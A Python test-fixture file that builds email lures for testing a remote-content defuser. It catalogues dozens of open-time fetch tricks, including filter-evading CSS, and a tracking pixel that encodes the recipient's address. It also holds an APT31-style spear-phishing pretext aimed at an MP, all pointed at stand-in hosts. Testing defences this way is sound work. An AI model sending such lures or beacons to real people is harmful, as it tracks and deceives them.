"""Real-looking lures for the defuse and leak tests: every kind of open-time fetch, pointed at a base
URL of the test's choosing (a loopback counting server, or a reserved example.* host)."""

from __future__ import annotations

import base64

from lurelens.testing import MessageBuilder

RECIPIENT = "j.smith@parliament.example.org"
TOKEN = base64.urlsafe_b64encode(RECIPIENT.encode()).decode().rstrip("=")
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)

# kind -> markup; "{B}" is the base URL. Every one of them fetches {B}/... when opened.
KINDS: dict[str, str] = {
    "img_src": '<img src="{B}/img.png" width="300" height="100">',
    "img_srcset": '<img srcset="{B}/s1.png 1x, {B}/s2.png 2x" alt="Quarterly chart">',
    "img_sizes": '<img src="{B}/w-small.png" srcset="{B}/w-small.png 480w, {B}/w-big.png 1200w" sizes="100vw" alt="Map">',
    "pixel": '<img src="{B}/o.gif?u=' + TOKEN + '" width="1" height="1" alt="" style="border:0">',
    "picture": '<picture><source media="(max-width: 600px)" srcset="{B}/small.png"><img src="{B}/big.png" alt="Hero"></picture>',
    "table_background": '<table background="{B}/tbg.png"><tr><td background="{B}/tdbg.png">cell text</td></tr></table>',
    "inline_style": "<div style=\"background-image:url('{B}/inline.png')\">styled block</div>",
    "style_url": '<style>.hero{background:#fff url("{B}/style-bg.png") no-repeat}</style><div class="hero">hero text</div>',
    "css_import": '<style>@import url("{B}/import.css"); @import "{B}/import2.css";</style>',
    "font_face": '<style>@font-face{font-family:T;src:url("{B}/font.woff2") format("woff2")} p.f{font-family:T}</style>'
    '<p class="f">text in a web font</p>',
    "media_queries": "<style>@media (prefers-color-scheme: dark){.m{background:url({B}/dark.png)}}"
    " @media print{.m{background:url({B}/print.png)}} @media (max-width: 600px){.m{background:url({B}/narrow.png)}}"
    "</style><div class=\"m\">media</div>",
    "link_stylesheet": '<link rel="stylesheet" href="{B}/link.css">',
    "link_icon": '<link rel="icon" href="{B}/favicon.ico">',
    "link_preload": '<link rel="preload" as="image" href="{B}/preload.png">',
    "link_prefetch": '<link rel="prefetch" href="{B}/prefetch.png">',
    "link_dns_prefetch": '<link rel="dns-prefetch" href="{B}/">',
    "link_preconnect": '<link rel="preconnect" href="{B}/">',
    "video": '<video poster="{B}/poster.png" src="{B}/v.mp4"><source src="{B}/v.webm"><track src="{B}/t.vtt"></video>',
    "audio": '<audio src="{B}/a.mp3" controls></audio>',
    "object": '<object data="{B}/obj.png" type="image/png">object fallback text</object>',
    "embed": '<embed src="{B}/embed.png" type="image/png">',
    "iframe": '<iframe src="{B}/frame.html"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="<img src={B}/srcdoc.png>"></iframe>',
    "input_image": '<input type="image" src="{B}/input.png" alt="Submit">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url={B}/refresh.html">',
    "svg_image": '<svg width="10" height="10"><image href="{B}/svg.png" width="10" height="10"/></svg>',
    "svg_xlink": '<svg width="10" height="10"><image xlink:href="{B}/svgx.png" width="10" height="10"/></svg>',
    "noscript": '<noscript><img src="{B}/noscript.png" alt="ns"></noscript>',
    "escaped_css": '<style>.e{background:\\75rl({B}/escaped.png)}</style><div class="e">escaped</div>',
    "image_set": "<div style=\"background-image:image-set('{B}/set1.png' 1x, '{B}/set2.png' 2x)\">image set</div>",
    "data_import": '<style>@import url("data:text/css,.d%7Bbackground:url({B}/data-import.png)%7D");</style>'
    '<div class="d">data import</div>',
    "script": '<script src="{B}/s.js"></script>',
    "lazy_far_below": '<img loading="lazy" src="{B}/lazy.png" style="margin-top:4000px" alt="lazy">',
}
# <base href> turns a relative reference into a remote one; it must be the document's first base.
BASE_KIND = '<base href="{B}/base/"><img src="rel.png" alt="Relative picture">'


def fill(markup: str, base: str) -> str:
    return markup.replace("{B}", base)


def page(body: str, base: str, *, head: str = "", body_attrs: str = "") -> str:
    return (f"<!doctype html><html><head><meta charset=\"utf-8\"><title>Lure</title>{fill(head, base)}</head>"
            f"<body{fill(body_attrs, base)}>{fill(body, base)}</body></html>")


ARTICLE = (
    "<p>Dear Mr Smith,</p><p>We are preparing an article on next week's sanctions vote and would welcome a "
    "short comment from your office before 18:00 today. Our readers in Zürich and Hong Kong follow the story "
    "closely.</p><p>Read the draft: <a href=\"https://track.example.net/r?u=aHR0cHM6Ly9uZXdzLmV4YW1wbGUuY29tL2RyYWZ0\">"
    "the draft article</a></p><p>Daniel Hart<br>Foreign Desk</p>"
)


def apt31_lure(base: str) -> bytes:
    """A news-outlet lure: plain and HTML alternatives, hidden pixel carrying the recipient, a background."""
    html = page(
        ARTICLE + KINDS["pixel"] + KINDS["inline_style"],
        base,
        head="<style>.pre{display:none}</style>",
    )
    return (
        MessageBuilder()
        .sender('"Daniel Hart, Foreign Desk" <daniel.hart.newsdesk@example.com>')
        .header("To", f'"J. Smith MP" <{RECIPIENT}>')
        .subject("Request for comment: sanctions vote")
        .text("Dear Mr Smith,\r\nRead the draft: https://news.example.com/draft\r\n")
        .html(html)
        .build()
    )


def newsletter_lure(base: str) -> bytes:
    """A newsletter: cid: logo kept, remote hero images, a web font, media queries, a tracking pixel."""
    body = (
        '<table width="600"><tr><td><img src="cid:logo@news" alt="Example News" width="120"></td></tr>'
        "<tr><td><h1>This week in policy</h1><p>Five stories you should not miss, with analysis from our desk.</p>"
        + KINDS["picture"] + KINDS["img_sizes"] + KINDS["media_queries"] + KINDS["font_face"]
        + '<p style="background:url(data:image/png;base64,' + base64.b64encode(PNG).decode() + ')">inline data kept</p>'
        + '<p><a href="https://news.example.com/unsubscribe">Unsubscribe</a> from these letters.</p></td></tr></table>'
        + KINDS["pixel"]
    )
    return (
        MessageBuilder()
        .sender('"Example News" <letters@news.example.com>')
        .header("To", RECIPIENT)
        .subject("This week in policy")
        .html(page(body, base))
        .related("logo@news", "image/png", PNG)
        .build()
    )


def everything_lure(base: str) -> bytes:
    """Every fetch kind at once, plus a <base href> and a body background."""
    body = "<p>Everything a client might fetch.</p>" + "".join(KINDS.values())
    html = page(body, base, head=BASE_KIND.split("<img")[0], body_attrs=' background="{B}/body-bg.png"')
    html = html.replace("</body>", '<img src="rel.png" alt="Relative picture"></body>')
    return (
        MessageBuilder()
        .header("To", RECIPIENT)
        .subject("Everything")
        .text("Everything a client might fetch.\r\n")
        .html(html)
        .build()
    )
